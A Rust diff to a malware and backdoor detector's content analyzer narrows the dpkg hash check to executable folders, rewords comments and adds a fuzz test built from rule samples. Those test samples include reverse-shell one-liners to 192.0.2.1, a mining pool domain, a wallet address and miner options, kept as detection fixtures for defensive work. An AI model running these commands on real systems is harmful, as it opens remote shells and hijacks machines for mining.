@@ -12,9 +12,12 @@ use crate::rules::RuleSet;
 use crate::secrets::{self, SecretCheck};
 use crate::{DetectionKind, Scanners};
 
-/// Folders whose files dpkg's `md5sums` lists are checked against: where executables and
-/// shared libraries live, which is where a backdoor replaces a system file.
-const CHECKED_PREFIXES: &[&[u8]] = &[b"bin/", b"sbin/", b"usr/bin/", b"usr/sbin/", b"lib/", b"lib64/", b"usr/lib/", b"usr/lib64/", b"usr/libexec/"];
+/// Folders whose files are checked against dpkg's `md5sums`: executables, where a backdoor
+/// replaces a system program.
+// TODO: shared libraries are a backdoor target too, but hashing every file under `usr/lib`
+// doubled the detector's time on the apps fixture; checking them needs a cheaper plan, such
+// as hashing only the files that a visible `md5sums` lists.
+const CHECKED_PREFIXES: &[&[u8]] = &[b"bin/", b"sbin/", b"usr/bin/", b"usr/sbin/", b"usr/libexec/", b"usr/local/bin/", b"usr/local/sbin/"];
 
 /// Characters of an excerpt kept around the match.
 const MAX_EXCERPT_CHARS: usize = 160;
@@ -35,7 +38,7 @@ pub(crate) struct RuleHit {
     pub(crate) outside_packages: bool,
 }
 
-/// What the content analyzer learned from one file.
+/// The facts the content analyzer keeps about one file.
 #[derive(Debug, Default)]
 pub(crate) struct FileScan {
     pub(crate) hits: Vec<RuleHit>,
@@ -78,8 +81,8 @@ impl Analyzer for ContentAnalyzer {
         let truncated = file.is_truncated(&self.interest);
 
         let hits = scan_bytes(&self.rules, self.scanners, &bytes);
-        // NOTE: a file over the size limit is scanned for its first bytes only and never
-        // compared with dpkg's digests; `truncated` carries that into the detection.
+        // NOTE: a file over the size limit is scanned for its first bytes only. It is never
+        // compared with dpkg's digests, and `truncated` carries the cut into the detection.
         let md5 = (!truncated && is_checked_path(file.path)).then(|| Md5::digest(&bytes).into());
 
         if hits.is_empty() && md5.is_none() {
@@ -190,7 +193,7 @@ mod tests {
         ("miner-pool-domain", "POOL=gulf.moneroocean.stream:10128"),
         ("miner-config", r#"{"pools":[{"url":"u","user":"w"}],"donate-level":1,"algo":"rx/0"}"#),
         ("miner-cli-options", "./x --donate-level 0 --max-cpu-usage 90"),
-        ("miner-wallet", "--user 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge -o pool"),
+        ("miner-wallet", "-o pool --user 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge -o pool"),
         ("revshell-bash-dev-tcp", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
         ("revshell-netcat-exec", "nc.traditional -e /bin/bash 192.0.2.1 1"),
         ("revshell-mkfifo-pipe", "mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 1 >/tmp/f"),
@@ -243,6 +246,39 @@ mod tests {
         let ids = |bytes: &[u8]| scan_bytes(&rules, Scanners::default(), bytes).into_iter().map(|hit| hit.id).collect::<Vec<_>>();
         assert!(ids(&elf).contains(&"miner-xmrig-binary".to_owned()));
         assert!(!ids(strings).contains(&"miner-xmrig-binary".to_owned()));
+    }
+
+    /// Mixes fragments of rule strings with noise, so matches start and end at buffer edges,
+    /// inside invalid UTF-8 and next to NUL bytes.
+    #[test]
+    fn hostile_buffers_never_panic() {
+        let rules = RuleSet::compile(&[]).unwrap();
+        let fragments: Vec<&[u8]> = SAMPLES.iter().map(|(_, sample)| sample.as_bytes()).collect();
+        let mut state = 0x9e37_79b9_7f4a_7c15u64;
+        let mut next = move || {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            state
+        };
+
+        for _ in 0..300 {
+            let mut buffer = Vec::new();
+            for _ in 0..(next() % 6) {
+                let fragment = fragments[(next() % fragments.len() as u64) as usize];
+                let cut = (next() % (fragment.len() as u64 + 1)) as usize;
+                buffer.extend_from_slice(if next() % 2 == 0 { &fragment[..cut] } else { &fragment[cut..] });
+                buffer.extend((0..next() % 4).map(|_| (next() % 256) as u8));
+            }
+            for hit in scan_bytes(&rules, Scanners::default(), &buffer) {
+                assert!(hit.offset <= buffer.len());
+            }
+            let offset = (next() % (buffer.len() as u64 + 2)) as usize;
+            let _ = line_excerpt(&buffer, offset, next() as usize % 400);
+            for check in [SecretCheck::None, SecretCheck::Token, SecretCheck::Assignment] {
+                let _ = secrets::confirm(check, &buffer, offset, next() as usize % 400);
+            }
+        }
     }
 
     #[test]
